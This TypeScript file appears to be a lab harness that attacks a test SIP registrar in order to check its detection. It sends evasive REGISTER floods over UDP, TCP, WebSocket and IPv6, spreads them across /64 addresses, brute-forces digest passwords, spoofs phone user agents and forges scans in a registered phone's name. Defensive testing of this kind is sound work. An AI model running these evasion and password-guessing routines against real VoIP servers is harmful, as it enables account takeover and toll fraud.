/**
 * Sends the shapes of evasion-shapes.ts among honest phones and a trunk, each from an address of its own, over UDP, TCP,
 * WebSocket (RFC 7118) and IPv6. Run as a program: prints a line of JSON for each sender with the answers it got, one for
 * the honest, and `finished`.
 */
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { honest, PHONES } from './attack-peers.ts';
import { STRICT, WEBSOCKET_PORT } from './attacked-registrar.ts';
import type { Draft, Shape, Transport } from './evasion-shapes.ts';
import { guess, passwordOf, random, SHAPES, set } from './evasion-shapes.ts';
import { ADDRESS } from './lab.ts';

export type Sender = {
  readonly shape: Shape;
  readonly over: Transport;
  readonly from: string;
  readonly to: string;
  /** Not all begin at once: a registrar of one processor answers them. */
  readonly afterMs: number;
};

/** Those of IPv4 have an address each, those of IPv6 a /64 each. */
function senders(over: Transport, isSix: boolean, shapes: readonly Shape[], first: number): Sender[] {
  return shapes.map((shape, n) => {
    const { v4, v6 } = shape.strict === true ? STRICT : ADDRESS.a;
    const afterMs = shape.everyMs > SLOW_MS ? 0 : (n % WAVES) * WAVE_MS;
    const from = isSix ? `fd90:0:0:${(0xe00 + first + n).toString(16)}::1` : `10.90.0.${first + n}`;
    return { shape, over, from, to: isSix ? v6 : v4, afterMs };
  });
}

function sent(over: Transport | 'six'): readonly Shape[] {
  return SHAPES.filter((shape) => shape.over.includes(over));
}

/** Who sends more slowly begins at once. */
const SLOW_MS = 1000;
const WAVES = 8;
const WAVE_MS = 1500;

/** Every shape over everything it is sent over. */
export const SENDERS: readonly Sender[] = [
  ...senders('udp', false, sent('udp'), 10),
  ...senders('tcp', false, sent('tcp'), 10 + sent('udp').length),
  ...senders('ws', false, sent('ws'), 10 + sent('udp').length + sent('tcp').length),
  ...senders('udp', true, sent('six'), 0),
  ...senders('tcp', true, SHAPES, 0x40),
  ...senders('ws', true, SHAPES, 0x80),
];

/** Of a shape that spreads, so many addresses of the /64 send. */
const SPREAD = 40;

/** Every address of a sender. */
export function addressesOf({ shape, from }: Sender): string[] {
  if (shape.spreads !== true) return [from];
  return Array.from({ length: SPREAD }, (_, n) => from.replace(/::1$/, `:${n + 1}:2:3:4`));
}

const isSix = (address: string): boolean => address.includes(':');
const host = (address: string): string => (isSix(address) ? `[${address}]` : address);

/** Where texts go, and what comes back. */
type Line = { readonly send: (text: string) => void; readonly isClosed: () => boolean; readonly close: () => void };

async function datagrams(from: string, to: string, heard: (text: string) => void): Promise<Line> {
  const socket = createSocket(isSix(from) ? 'udp6' : 'udp4').bind(0, from);
  await once(socket, 'listening');
  socket.on('message', (data) => heard(data.toString('latin1')));
  return { send: (text) => socket.send(text, 5060, to), isClosed: () => false, close: () => socket.close() };
}

async function connection(from: string, to: string, port: number): Promise<Socket> {
  const socket = connect({ host: to, port, localAddress: from, noDelay: true });
  socket.on('error', () => undefined);
  await once(socket, 'connect');
  return socket;
}

async function stream(from: string, to: string, heard: (text: string) => void): Promise<Line> {
  const socket = await connection(from, to, 5060);
  let rest = '';
  socket.on('data', (data) => {
    const texts = (rest + data.toString('latin1')).split('\r\n\r\n');
    rest = texts.pop() ?? '';
    for (const text of texts) heard(text);
  });
  return { send: (text) => void socket.write(text), isClosed: () => !socket.writable, close: () => socket.destroy() };
}

/** A masked frame (RFC 6455 section 5.2). */
function frame(text: string): Buffer {
  const payload = Buffer.from(text, 'latin1');
  const mask = randomBytes(4);
  const head = Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 255, ...mask]);
  return Buffer.concat([head, payload.map((byte, n) => byte ^ (mask[n & 3] ?? 0))]);
}

async function webSocket(from: string, to: string, heard: (text: string) => void): Promise<Line> {
  const socket = await connection(from, to, WEBSOCKET_PORT);
  const key = randomBytes(16).toString('base64');
  const head = [
    'GET / HTTP/1.1',
    `Host: ${host(to)}`,
    'Upgrade: websocket',
    'Connection: Upgrade',
    `Sec-WebSocket-Key: ${key}`,
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Protocol: sip',
  ];
  socket.write(`${head.join('\r\n')}\r\n\r\n`);
  await once(socket, 'data');
  // Answers are texts of one frame; what stands between two of them is no start line.
  socket.on('data', (data: Buffer) => {
    for (const [, text = ''] of data.toString('latin1').matchAll(/(SIP\/2\.0 [\s\S]*?\r\n\r\n)/g)) heard(text);
  });
  return {
    send: (text) => void socket.write(frame(text)),
    isClosed: () => !socket.writable,
    close: () => socket.destroy(),
  };
}

function open(over: Transport, from: string, to: string, heard: (text: string) => void): Promise<Line> {
  if (over === 'udp') return datagrams(from, to, heard);
  return over === 'tcp' ? stream(from, to, heard) : webSocket(from, to, heard);
}

function draft({ shape, over, to }: Sender, from: string, n: number): Draft {
  const method = shape.method ?? 'REGISTER';
  const user = shape.user(n);
  return {
    method,
    uri: method === 'REGISTER' ? `sip:${host(to)}` : `sip:${user}@${host(to)}`,
    headers: [
      ['Via', `SIP/2.0/${over.toUpperCase()} ${host(from)}:5060;branch=z9hG4bK${random()};rport`],
      ['Max-Forwards', '70'],
      ['From', `<sip:${user}@${host(to)}>;tag=${random()}`],
      ['To', `<sip:${user}@${host(to)}>`],
      ['Call-ID', `${random()}@x`],
      ['CSeq', `1 ${method}`],
      ['Contact', `<sip:${user}@${host(from)}>`],
      ['User-Agent', 'Yealink SIP-T46S 66.85.0.5'],
      ...(method === 'REGISTER' ? [['Expires', '60'] as [string, string]] : []),
    ],
    body: '',
  };
}

function text({ method, uri, headers, body }: Draft): string {
  const all = [...headers, ['Content-Length', String(body.length)]];
  return `${method} ${uri} SIP/2.0\r\n${all.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n${body}`;
}

async function attack(sender: Sender): Promise<void> {
  const { shape, over, to } = sender;
  await sleep(sender.afterMs);
  const answers: Record<string, number> = {};
  let challenge = '';
  const heard = (response: string): void => {
    const [, code = ''] = /^SIP\/2\.0 (\d+)/.exec(response) ?? [];
    if (code === '' || code.startsWith('1')) return;
    answers[code] = (answers[code] ?? 0) + 1;
    if (challenge === '' || shape.oneNonce !== true)
      challenge = /^(?:WWW|Proxy)-Authenticate: (.*)/im.exec(response)?.[1] ?? challenge;
  };
  const lines: { readonly from: string; line: Line }[] = [];
  for (const from of addressesOf(sender)) lines.push({ from, line: await open(over, from, to, heard) });
  for (let n = 0; n < shape.count; n++) {
    const next = lines[n % lines.length];
    if (next === undefined) break;
    const one = draft(sender, next.from, n);
    shape.draw?.(one, n);
    if (shape.guesses === true && challenge !== '')
      one.headers.push(['Authorization', guess(one, challenge, shape.user(n), passwordOf(n))]);
    const out = text(one);
    // A server hangs up on what it cannot read.
    if (next.line.isClosed()) next.line = await open(over, next.from, to, heard);
    next.line.send(shape.write?.(out, n) ?? out);
    // The first one is sent for its challenge.
    for (let k = 0; shape.guesses === true && n === 0 && challenge === '' && k < 500; k++) await sleep(20);
    await sleep(shape.everyMs);
  }
  // It stays to hear the answers.
  await sleep(2000);
  for (const { line } of lines) line.close();
  process.stdout.write(`${JSON.stringify({ shape: shape.name, over, from: sender.from, answers })}\n`);
}

/** A registered phone in whose name somebody scans: less than four times the evidence that reports a stranger. */
export const FORGED = PHONES[0] ?? '';

async function forge(): Promise<void> {
  const shape: Shape = {
    name: 'forged',
    over: ['udp'],
    count: 0,
    everyMs: 0,
    enough: 0,
    user: (n) => String(3000 + n),
  };
  const sender: Sender = { shape, over: 'udp', from: FORGED, to: ADDRESS.a.v4, afterMs: 0 };
  const line = await datagrams(FORGED, ADDRESS.a.v4, () => undefined);
  for (let n = 0; n < 15; n++) {
    line.send(text(draft(sender, FORGED, n)));
    await sleep(20);
  }
  const known: Shape = { ...shape, method: 'OPTIONS', user: () => '2001' };
  for (let n = 0; n < 3; n++) {
    const one = draft({ ...sender, shape: known }, FORGED, n);
    set(one, 'User-Agent', () => 'friendly-scanner');
    line.send(text(one));
    await sleep(1200);
  }
  line.close();
}

const [, program, only] = process.argv;
if (import.meta.filename === program) {
  const served = honest(ADDRESS.a.v4);
  await sleep(1000);
  await Promise.all(SENDERS.filter(({ shape }) => only === undefined || shape.name === only).map(attack));
  // By now the phones are registered.
  await forge();
  process.stdout.write(`${JSON.stringify(await served)}\nfinished\n`);
}
